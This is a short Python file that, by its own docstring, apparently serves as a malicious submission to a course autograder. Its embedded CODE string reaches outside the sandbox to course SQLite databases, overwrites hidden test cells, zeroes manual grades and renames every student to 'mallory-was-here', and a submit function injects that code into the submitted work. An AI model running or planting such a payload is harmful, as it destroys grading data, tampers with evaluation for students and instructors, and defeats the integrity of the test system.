"""Sets everybody's points to zero in the gradebook, and rewrites the hidden tests in it."""

CODE = """
import glob, sqlite3
for path in glob.glob("/srv/course/*.db") + glob.glob("../../../*.db"):
    try:
        base = sqlite3.connect(path, timeout=2)
        base.execute("update source_cell set source = '0.0' where name like 'test-%'")
        base.execute("update grade set manual_score = 0 where auto_score > 0")
        base.execute("update student set last_name = 'mallory-was-here'")
        base.commit()
    except Exception as error:
        print(path, error)
"""


def submit(work):
    work.insert(CODE)
